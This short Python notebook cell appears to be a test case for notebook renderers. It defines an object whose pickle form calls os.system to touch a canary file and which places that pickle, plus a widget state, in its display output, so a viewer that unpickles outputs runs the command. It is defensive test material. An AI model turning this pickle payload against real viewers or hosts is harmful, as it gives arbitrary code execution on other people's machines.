"""Shows outputs that hold pickles, and objects with display methods that run code when they are shown elsewhere.

naive: a command run in the process that renders, where a viewer unpickles or evaluates widget states.
render: yes
reached: 63706f736978
"""
# %%
import pickle, os
from IPython.display import display
class Poison:
    def __reduce__(self):
        return os.system, ("touch /tmp/escaped-by-output",)
    def _repr_mimebundle_(self, **options):
        return {"application/x-pickle": pickle.dumps(self), "application/vnd.jupyter.widget-view+json":
                {"model_id": "escaped-by-widget", "version_major": 2}, "text/plain": pickle.dumps(self, 0).hex()}
display(Poison())
